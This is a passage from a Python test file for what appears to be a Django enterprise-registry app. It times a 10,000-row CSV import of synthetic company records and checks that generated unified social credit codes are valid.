        row(f"批量企业{n:05d}有限公司", code(1000 + n), "东村" if n % 2 else "330001001", "冷库、有限空间")
        for n in range(total)
    ]
    job = make_job(world.official_a, make_csv(rows))
    before = Enterprise.objects.count()

    started = time.perf_counter()
    enterprise_import_run(import_id=job.pk)
    elapsed = time.perf_counter() - started

    job.refresh_from_db()
    print(f"\n10,000-row CSV import took {elapsed:.2f} s")
    assert job.status == EnterpriseImport.Status.DONE, job.errors[:5]
    assert job.created_count == total
    assert Enterprise.objects.count() == before + total
    assert Enterprise.sectors.through.objects.filter(enterprise__name__startswith="批量企业").count() == 2 * total


def test_codes_used_in_these_tests_are_valid() -> None:
    for seed in (1, 2, 11, 12, 21, 28, 60):
        assert credit_code_problem(code(seed)) is None
    assert all(char in ALPHABET for char in code(1))
